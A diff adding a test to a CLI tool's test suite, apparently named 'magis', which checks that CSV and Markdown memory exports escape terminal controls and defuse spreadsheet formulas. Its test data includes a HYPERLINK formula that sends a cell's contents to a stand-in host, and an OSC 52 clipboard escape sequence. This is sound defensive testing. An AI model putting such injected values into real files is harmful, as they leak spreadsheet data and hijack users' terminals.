@@ -67,4 +67,27 @@ describe('exports escape terminal controls and import back whole', () => {
       expect((json(await magisIn(other, ['memories', 'list', '--json'], ENV)) as Array<{content: string}>).map(m => m.content)).toEqual([MEMORY]);
     }
   });
+
+  it('memories export as csv and md: controls shown as escapes, and a formula opens as text in a spreadsheet', async () => {
+    const home = newHome();
+    const LINK = '=HYPERLINK("http://example.test/?d="&A1,"details") for the \u001b]52;c;Y2xpcA==\u0007 boiler';
+    for (const text of [MEMORY, LINK, '+1 555 0100 is the plumber', '@here the bins go out on Tuesday']) {
+      expect((await magisIn(home, ['memories', 'add', text], ENV)).status).toBe(0);
+    }
+    for (const format of ['csv', 'md']) {
+      const out = await magisIn(home, ['memories', 'export', '--format', format], ENV);
+      expect(out.status).toBe(0);
+      expect(RAW.test(out.stdout), `${format}: ${JSON.stringify(out.stdout.match(RAW))}`).toBe(false);
+      expect(out.stdout).toContain('\\u009b2J');
+      expect(out.stdout).toContain('\\u202eyek');
+      expect(out.stdout).toContain('\\u001b]52;c;Y2xpcA==\\u0007 boiler');
+    }
+    // Every text cell a spreadsheet would evaluate begins with an apostrophe; no cell begins with =, +, - or @.
+    const rows = (await magisIn(home, ['memories', 'export', '--format', 'csv'], ENV)).stdout.trim().split('\n').slice(1);
+    const content = rows.map(r => r.split(',').slice(6).join(','));
+    expect(content.some(c => c.startsWith(`"'=HYPERLINK(""http://example.test/?d=""&A1,""details"")`))).toBe(true);
+    expect(content.some(c => c.startsWith("'+1 555 0100 is the plumber"))).toBe(true);
+    expect(content.some(c => c.startsWith("'@here the bins"))).toBe(true);
+    for (const row of rows) for (const cell of row.split(',')) expect(cell, row).not.toMatch(/^"?[=+@]/);
+  });
 });
